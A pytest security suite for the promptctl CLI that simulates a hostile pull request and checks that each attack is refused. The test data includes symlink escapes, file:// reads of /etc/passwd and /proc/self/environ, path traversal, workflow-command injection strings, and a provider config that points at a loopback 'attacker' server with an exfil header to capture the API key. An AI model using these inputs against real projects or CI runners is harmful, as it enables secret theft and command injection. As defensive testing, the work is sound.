"""A hostile pull request (issue 19): each of the six ways through found by attacking promptctl
as a contributor would is a refusal or a no-op. Every test runs with a key in the environment, a
logging "attacker" server on loopback, and a decoy directory beside the project; at the end the
attacker has had no request, the decoy is byte for byte as before, and no key is in any output or
file."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from promptctl.errors import UsageError
from promptctl.evals import runs
from promptctl.project import config, paths
from tests.conftest import FAKE_KEY, Result
from tests.fakes.llm_server import FakeLLMServer, Scripted, write_config
from tests.secrets_scan import assert_no_secret, assert_no_secret_in_dir

# "ignored under --trusted-config-ref" is a warning line of the CLI; tests read it on stderr
pytestmark = pytest.mark.filterwarnings("default::promptctl.errors.PromptctlWarning")

CASES = [
    ("France", "Paris"),
    ("Italy", "Rome"),
    ("Spain", "Madrid"),
    ("Japan", "Tokyo"),
    ("Chile", "Santiago"),
    ("Kenya", "Nairobi"),
    ("Norway", "Oslo"),
    ("Ghana", "Accra"),
]
HEAD = "model: fake/echo-1\ninput: {country: {type: string}, capital: {type: string}}\n"
GOOD = HEAD + 'template: "The capital of {{ country }} is {{ capital }}."\n'
# every case fails: a significant drop on 8 cases (p = 0.5**8)
DEGRADED = HEAD + 'template: "The capital of {{ country }} is not known to {{ capital[:0] }}me."\n'
SUITE = (
    "prompt: capitals\ndataset: data/capitals.jsonl\n"
    'scorers:\n  - {id: names-capital, type: contains, value: "{{ expected }}"}\n'
    "gate: {max_drop: 0.05, alpha: 0.05}\n"
)


def _tree(root: Path) -> dict[str, tuple[int, bytes]]:
    out = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in sorted(dirnames + filenames):
            p = Path(dirpath, name)
            st = p.lstat()
            data = p.read_bytes() if p.is_file() and not p.is_symlink() else b""
            out[p.relative_to(root).as_posix()] = (st.st_mode, data)
    return out


@pytest.fixture
def attacker() -> Iterator[FakeLLMServer]:
    """The server a hostile PR would like requests (and keys) sent to: it must see none."""
    server = FakeLLMServer().start()
    try:
        yield server
        assert server.total == 0, [r.path for r in server.requests]
    finally:
        server.stop()


@pytest.fixture
def decoy(tmp_path: Path) -> Iterator[Path]:
    """Files outside the project a hostile PR would like written: unchanged at the end."""
    d = tmp_path / "decoy"
    (d / "runs").mkdir(parents=True)
    (d / "victim.txt").write_text("precious\n", encoding="utf-8")
    (d / "labels.yaml").write_text("# someone else's file\n", encoding="utf-8")
    before = _tree(d)
    yield d
    assert _tree(d) == before, "a byte was written outside the project"


@pytest.fixture
def pr(
    git_project: Any,
    llm_server: FakeLLMServer,
    attacker: FakeLLMServer,
    decoy: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> Iterator[Any]:
    """main: a prompt, a suite of 8 cases and its baseline, all committed; then branch `pr`,
    without local state, as a CI checkout starts. No key appears anywhere at the end."""
    p = git_project
    monkeypatch.setenv("FAKE_API_KEY", FAKE_KEY)
    write_config(p.root, llm_server, max_retries=0)
    p.write(".gitignore", ".promptctl/\n")
    p.write("prompts/capitals.yaml", GOOD)
    p.write("evals/capitals.yaml", SUITE)
    p.write(
        "evals/data/capitals.jsonl",
        "".join(
            json.dumps({"id": f"c-{i}", "vars": {"country": c, "capital": k}, "expected": k}) + "\n"
            for i, (c, k) in enumerate(CASES)
        ),
    )
    assert p.run("eval", "--quiet").code == 0
    assert p.run("baseline", "update").code == 0
    p.commit("capitals with a baseline")
    p.git("switch", "-q", "-c", "pr")
    shutil.rmtree(p.root / ".promptctl")
    llm_server.reset()
    yield p
    assert_no_secret_in_dir(p.root)


def run(p: Any, *argv: str) -> Result:
    r = p.run(*argv)
    assert "Traceback" not in r.err, r.err
    assert_no_secret(r.out, r.err)
    return r


# ----------------------------------------------------------------------------- 5. symlinks


def _errored_run(p: Any, llm_server: FakeLLMServer) -> Path:
    """A run with one case errored (a 500 not retried): what `--resume` finishes."""
    llm_server.enqueue(Scripted.error(500, should_retry=False))
    p.write("prompts/capitals.yaml", GOOD.replace("The capital", "Capital"))
    assert run(p, "eval", "--fresh", "--quiet").code == 3
    (path,) = (p.root / ".promptctl/runs").iterdir()
    return path


def test_a_symlinked_results_file_is_refused_on_resume(
    pr: Any, llm_server: FakeLLMServer, decoy: Path
) -> None:
    path = _errored_run(pr, llm_server)
    (path / runs.RESULTS).unlink()
    (path / runs.RESULTS).symlink_to(decoy / "victim.txt")
    r = run(pr, "eval", "--resume", path.name)
    assert r.code == 2
    assert f".promptctl/runs/{path.name}/results.jsonl is a symlink" in r.err


def test_a_symlinked_run_directory_is_refused_on_resume(
    pr: Any, llm_server: FakeLLMServer, decoy: Path
) -> None:
    path = _errored_run(pr, llm_server)
    moved = decoy / "runs" / path.name
    shutil.copytree(path, moved)
    shutil.rmtree(path)
    path.symlink_to(moved)
    before = _tree(decoy)
    r = run(pr, "eval", "--resume", path.name)
    assert r.code == 2
    assert f".promptctl/runs/{path.name} is a symlink" in r.err
    assert _tree(decoy) == before
    shutil.rmtree(moved)  # the decoy fixture compares with its state before the copy


def test_a_symlinked_runs_directory_is_refused_before_any_call(
    pr: Any, llm_server: FakeLLMServer, decoy: Path
) -> None:
    (pr.root / ".promptctl").mkdir()
    (pr.root / ".promptctl/runs").symlink_to(decoy / "runs")
    r = run(pr, "eval")
    assert r.code == 2
    assert ".promptctl/runs is a symlink: promptctl does not write through symlinks" in r.err
    assert llm_server.total == 0


def test_a_symlinked_state_directory_is_refused(pr: Any, decoy: Path) -> None:
    (pr.root / ".promptctl").symlink_to(decoy)
    r = run(pr, "eval")
    assert r.code == 2 and ".promptctl is a symlink" in r.err


def test_a_symlinked_labels_file_is_never_rewritten(pr: Any, decoy: Path) -> None:
    (pr.root / "labels.yaml").symlink_to(decoy / "labels.yaml")
    r = run(pr, "promote", "capitals", "--to", "production", "--force", "--reason", "x")
    assert r.code == 2
    assert "labels.yaml" in r.err and "leaves the project" in r.err
    r = run(pr, "promote", "capitals", "--to", "production", "--force", "--reason", "x", "--commit")
    assert r.code == 2


def test_the_writer_refuses_a_symlinked_labels_file_by_name(pr: Any, decoy: Path) -> None:
    (pr.root / "labels.yaml").symlink_to(decoy / "labels.yaml")
    with pytest.raises(UsageError) as info:
        paths.writable(pr.root, pr.root / "labels.yaml")
    assert (
        info.value.message == "labels.yaml is a symlink: promptctl does not write through symlinks"
    )


def test_a_prompt_symlinked_out_of_the_project_is_refused_by_render_list_and_lint(
    pr: Any, decoy: Path
) -> None:
    (decoy / "outside.yaml").write_text(GOOD, encoding="utf-8")
    (pr.root / "prompts/outside.yaml").symlink_to(decoy / "outside.yaml")
    for argv in (("render", "outside", "--var", "country=a", "--var", "capital=b"), ("list",)):
        r = run(pr, *argv)
        assert r.code == 2, argv
        assert "prompts/outside.yaml" in r.err and "leaves the project" in r.err
    r = run(pr, "lint")
    assert r.code == 1
    assert "prompts/outside.yaml:" in r.out and "PC007" in r.out
    (decoy / "outside.yaml").unlink()


def test_a_suite_symlinked_to_dev_zero_is_refused_by_lint_and_eval(pr: Any) -> None:
    (pr.root / "evals/zero.yaml").symlink_to("/dev/zero")
    r = run(pr, "eval", "zero")
    assert r.code == 2 and "evals/zero.yaml" in r.err and "leaves the project" in r.err
    r = run(pr, "lint")
    assert r.code == 1 and "evals/zero.yaml" in r.out and "PC007" in r.out


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="FIFOs are POSIX")
def test_a_fifo_inside_the_project_is_not_read(pr: Any) -> None:
    os.mkfifo(pr.root / "evals/fifo.yaml")
    r = run(pr, "eval", "fifo")
    assert r.code == 2 and "evals/fifo.yaml: error: the file is not a regular file" in r.err
    r = run(pr, "lint")
    assert r.code == 1 and "evals/fifo.yaml" in r.out and "PC007" in r.out


@pytest.mark.parametrize("where", ["../decoy/replies.yaml", "ABSOLUTE", "replies.yaml"])
def test_the_mock_replies_file_stays_inside_the_project(pr: Any, decoy: Path, where: str) -> None:
    (decoy / "replies.yaml").write_text("- {match: '.', reply: Paris}\n", encoding="utf-8")
    if where == "ABSOLUTE":
        where = str(decoy / "replies.yaml")
    elif where == "replies.yaml":
        (pr.root / "replies.yaml").symlink_to(decoy / "replies.yaml")
    pr.write(
        "promptctl.yaml",
        pr.read("promptctl.yaml") + f"  canned: {{type: mock, replies: '{where}'}}\n",
    )
    pr.write("prompts/m.yaml", "model: canned/x\ntemplate: hi\n")
    r = run(pr, "run", "m")
    assert r.code == 2 and ("leaves the project" in r.err or "inside the project" in r.err)
    assert "Paris" not in r.out
    if where != "replies.yaml":  # a path that names the outside is a lint error too
        r = run(pr, "lint")
        assert r.code == 1 and "replies must be a file inside the project" in r.out
    (decoy / "replies.yaml").unlink()


def test_confinement_is_one_function(tmp_path: Path) -> None:
    root = (tmp_path / "r").resolve()
    (root / "d").mkdir(parents=True)
    (root / "d/f.txt").write_text("x")
    assert paths.readable(root, root / "d/f.txt") == root / "d/f.txt"
    for bad in (root / "../x", Path("/proc/self/environ"), Path("/dev/zero"), root / "d"):
        with pytest.raises(UsageError):
            paths.readable(root, bad)
    with pytest.raises(UsageError, match="larger than 0 bytes"):
        paths.readable(root, root / "d/f.txt", max_bytes=0)
    assert config.load_project(root=root).state_dir == root / ".promptctl"


# ----------------------------------------------------------------------------- 4. committed cache

ALL_CAPITALS = " ".join(k for _, k in CASES)  # a reply that passes every case


def _forge_cache(p: Any, llm_server: FakeLLMServer) -> None:
    """What the attacker does at home: record passing replies for the degraded prompt."""
    p.write("prompts/capitals.yaml", DEGRADED)
    llm_server.enqueue(*[Scripted.text(ALL_CAPITALS) for _ in CASES])
    assert run(p, "eval", "--quiet").code == 0  # the forged rows pass
    shutil.rmtree(p.root / ".promptctl/runs")
    llm_server.reset()


def test_a_committed_cache_forges_nothing(pr: Any, llm_server: FakeLLMServer) -> None:
    _forge_cache(pr, llm_server)
    pr.git("add", "-f", ".promptctl")
    pr.commit("PR: shorter answers (and a cache)")
    for argv in (("eval", "--offline"), ("eval",)):
        r = run(pr, *argv, "--baseline-ref", "main", "--trusted-config-ref", "main")
        assert r.code == 2, r.err
        assert "the state directory .promptctl/ holds files tracked in git" in r.err
        assert "git rm -r --cached .promptctl" in r.err
    assert llm_server.total == 0


def test_a_cache_this_clone_did_not_write_answers_nothing(
    pr: Any, llm_server: FakeLLMServer
) -> None:
    # e.g. copied in, or restored from elsewhere: the rows are keyed with another clone's secret
    _forge_cache(pr, llm_server)
    (pr.root / ".promptctl/cache.key").unlink()
    r = run(pr, "eval", "--offline", "--baseline-ref", "main")
    assert r.code == 3, r.out + r.err  # calls needed, none allowed: incomplete, never a pass
    assert llm_server.total == 0
    r = run(pr, "eval", "--baseline-ref", "main")
    assert r.code == 1, r.out + r.err  # fresh calls: the real, degraded answers
    assert "REGRESSED" in r.out
    assert llm_server.total == len(CASES)


# ----------------------------------------------------------------------------- 2. import


def _files_text(root: Path) -> str:
    return "\n".join(
        p.read_text(encoding="utf-8", errors="replace")
        for p in root.rglob("*")
        if p.is_file() and ".git" not in p.parts
    )


def test_import_reads_nothing_outside_the_config_directory(pr: Any, decoy: Path) -> None:
    (decoy / "secret.txt").write_text("DECOY-CONTENT\n", encoding="utf-8")
    pr.write("pf/inside.txt", "an inside value\n")
    pr.write("pf/p/a.txt", "Say {{ x }}\n")
    pr.write(
        "pf/promptfooconfig.yaml",
        f"""\
        prompts: ['Hi {{{{ x }}}}', 'file://p/*.txt', 'file:///etc/*.conf', 'file://../../**/*.txt']
        providers: [openai:gpt-4o-mini]
        tests:
          - vars: {{x: 'file:///proc/self/environ'}}
          - vars: {{x: 'file://../../decoy/secret.txt'}}
          - vars: {{x: 'file://{decoy / "secret.txt"}'}}
          - vars: {{x: 'file:///dev/zero'}}
          - vars: {{x: 'file://inside.txt'}}
          - 'file:///etc/passwd'
        """,
    )
    (pr.root / "pf/link.txt").symlink_to(decoy / "secret.txt")
    pr.write(
        "pf/promptfooconfig.yaml",
        pr.read("pf/promptfooconfig.yaml") + "  - vars: {x: 'file://link.txt'}\n",
    )
    r = run(pr, "import", "pf/promptfooconfig.yaml")
    assert r.code == 0, r.err
    written = _files_text(pr.root / "evals") + _files_text(pr.root / "prompts")
    assert "an inside value" in written  # a file inside the config's directory is read
    assert "Say {{ x }}" in written
    assert "DECOY-CONTENT" not in written and "root:" not in written
    assert "FAKE_API_KEY" not in written and "PATH=" not in written
    for ref in (
        "file:///proc/self/environ",
        "file://../../decoy/secret.txt",
        "file:///dev/zero",
        "file://link.txt",
        "file:///etc/*.conf",
        "file://../../**/*.txt",
        "file:///etc/passwd",
    ):
        assert f"{ref}: only files inside the config's directory" in r.err, ref
    (decoy / "secret.txt").unlink()


# ----------------------------------------------------------------------------- 3. config paths

TRUSTED = ("--baseline-ref", "main", "--trusted-config-ref", "main")


def test_a_pr_moving_paths_baselines_still_gates_against_the_trusted_baseline(
    pr: Any, llm_server: FakeLLMServer
) -> None:
    pr.write("prompts/capitals.yaml", DEGRADED)
    pr.write(
        "promptctl.yaml", pr.read("promptctl.yaml") + "paths: {baselines: evals/baselines-v2}\n"
    )
    assert run(pr, "eval", "--quiet").code == 0  # no baseline there yet: a new suite
    assert run(pr, "baseline", "update").code == 0
    assert (pr.root / "evals/baselines-v2/capitals.json").is_file()
    pr.commit("PR: shorter answers, baselines moved")
    shutil.rmtree(pr.root / ".promptctl")
    llm_server.reset()
    r = run(pr, "eval", *TRUSTED)
    assert r.code == 1, r.out + r.err
    assert "capitals: REGRESSED" in r.out
    assert (
        "warning: ignored under --trusted-config-ref main: paths.baselines (the values "
        "committed at main apply)" in r.err
    )
    r = run(pr, "diff", "main")
    assert r.code == 0
    assert "WARNING: gates loosened:" in r.out
    assert "paths.baselines: verdict-setting: evals/baselines -> evals/baselines-v2" in r.out


@pytest.mark.parametrize(
    "setting",
    [
        "paths: {state: .ci-state}",
        "paths: {evals: evals2}",
        "defaults: {judge_model: fake/judge}",
        "prices: {fake/echo-1: {input: 0, output: 0}}",
    ],
)
def test_every_verdict_setting_the_pr_changes_is_ignored_and_flagged(pr: Any, setting: str) -> None:
    pr.write("promptctl.yaml", pr.read("promptctl.yaml") + setting + "\n")
    pr.commit("PR: config")
    key = setting.split(":")[0] + "." + setting.split("{")[1].split(":")[0]
    r = run(pr, "eval", *TRUSTED)
    assert r.code == 0, r.out + r.err
    assert f"warning: ignored under --trusted-config-ref main: {key} " in r.err
    r = run(pr, "diff", "main", "--format", "json")
    flags = json.loads(r.out)["loosened"]
    assert key in [f["subject"] for f in flags]  # (a moved evals/ also drops its suites)


def test_a_pr_cannot_silence_the_lint_codes_it_trips(
    pr: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`lint.ignore` decides the lint gate's verdict: under a trusted ref (the workflow's lint
    step sets PROMPTCTL_TRUSTED_CONFIG_REF) it is the base branch's, and `diff` flags it."""
    pr.write(
        "evals/extra.yaml",
        "prompt: capitals\ncases:\n"
        "  - {id: x1, vars: {country: A, capital: B, extra: 1}}\n"
        "scorers:\n  - {id: has, type: contains, value: B}\n",
    )
    pr.write("promptctl.yaml", pr.read("promptctl.yaml") + "lint: {ignore: [PC211]}\n")
    pr.commit("PR: a case with an extra var, and PC211 silenced")
    assert run(pr, "lint", "--strict").code == 0  # the PR's own config silences it
    monkeypatch.setenv("PROMPTCTL_TRUSTED_CONFIG_REF", "main")
    r = run(pr, "lint", "--strict")
    assert r.code == 1 and "PC211" in r.out, r.out + r.err
    assert "ignored under --trusted-config-ref main: lint.ignore" in r.err
    monkeypatch.delenv("PROMPTCTL_TRUSTED_CONFIG_REF")
    flags = json.loads(run(pr, "diff", "main", "--format", "json").out)["loosened"]
    assert "lint.ignore" in [f["subject"] for f in flags]


# ----------------------------------------------------------------------------- 6. workflow commands

PAYLOAD = "\n::add-mask::pwn\n\u2003::stop-commands::pwn\r::set-output name=x::pwn\n##[error]pwn"


def _no_command_from_data(*texts: str) -> None:
    """No line the runner would act on carries the payload: real annotations only."""
    for text in texts:
        assert "##[" not in text
        for line in text.replace("\r", "\n").split("\n"):
            s = line.strip()
            assert not s.startswith(("::add-mask", "::stop-commands", "::set-output")), line
            assert "pwn" not in s.split("::")[1] if s.startswith("::") else True, line


@pytest.fixture
def in_actions(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path / "summary.md"))


def test_a_reply_cannot_pose_as_a_workflow_command_in_run(
    pr: Any, llm_server: FakeLLMServer, in_actions: None
) -> None:
    llm_server.enqueue(Scripted.text("Paris" + PAYLOAD))
    r = run(pr, "run", "capitals", "--var", "country=France", "--var", "capital=Paris")
    assert r.code == 0, r.err
    assert "add-mask" in r.out  # shown, readable, inert
    _no_command_from_data(r.out, r.err)


def test_a_provider_error_body_cannot_pose_as_a_workflow_command(
    pr: Any, llm_server: FakeLLMServer, in_actions: None
) -> None:
    llm_server.enqueue(Scripted.error(503, should_retry=False, body="overloaded" + PAYLOAD))
    pr.write("prompts/capitals.yaml", GOOD.replace("The capital", "Capital"))
    r = run(pr, "eval", "--fresh")
    assert r.code == 3, r.out + r.err
    _no_command_from_data(r.out, r.err)


def test_file_names_and_case_ids_cannot_pose_as_workflow_commands(
    pr: Any, llm_server: FakeLLMServer, in_actions: None
) -> None:
    pr.write(
        "evals/s\n::add-mask::pwn ##[error]pwn.yaml",
        "prompt: capitals\ncases:\n"
        "  - {id: '::stop-commands::pwn', vars: {country: a, capital: b}, expected: nope}\n"
        "  - {id: '##[add-mask]pwn', vars: {country: c, capital: d}, expected: nope}\n"
        "scorers: [{id: hit, type: equals, value: '{{ expected }}'}]\n",
    )
    r = run(pr, "eval")
    assert r.code in (0, 1), r.out + r.err
    assert "stop-commands" in r.out + r.err  # the case id is still shown
    _no_command_from_data(r.out, r.err)
    r = run(pr, "lint")
    _no_command_from_data(r.out, r.err)
    r = run(pr, "lint", "--format", "github")
    _no_command_from_data(r.out, r.err)


def test_a_pr_pointing_providers_at_the_attacker_sends_it_nothing(
    pr: Any, llm_server: FakeLLMServer, attacker: FakeLLMServer
) -> None:
    pr.write(
        "promptctl.yaml",
        f"providers:\n  fake: {{type: openai, base_url: '{attacker.openai_base}', "
        "api_key_env: FAKE_API_KEY, headers: {x-exfil: '1'}}\n"
        f"  judge: {{type: openai, base_url: '{attacker.openai_base}', "
        "api_key_env: FAKE_API_KEY}\n"
        "defaults: {judge_model: judge/x}\n",
    )
    pr.write("prompts/capitals.yaml", GOOD.replace("The capital", "Capital"))  # needs calls
    pr.commit("PR: 'local' provider settings")
    r = run(pr, "eval", *TRUSTED)
    assert r.code == 0, r.out + r.err
    assert llm_server.total == len(CASES)  # every call went to the trusted server
    assert "x-exfil" not in llm_server.requests[0].headers
    assert (
        "ignored under --trusted-config-ref main: defaults.judge_model, providers.fake, " in r.err
    )
    # the attacker fixture asserts at teardown that it saw no request
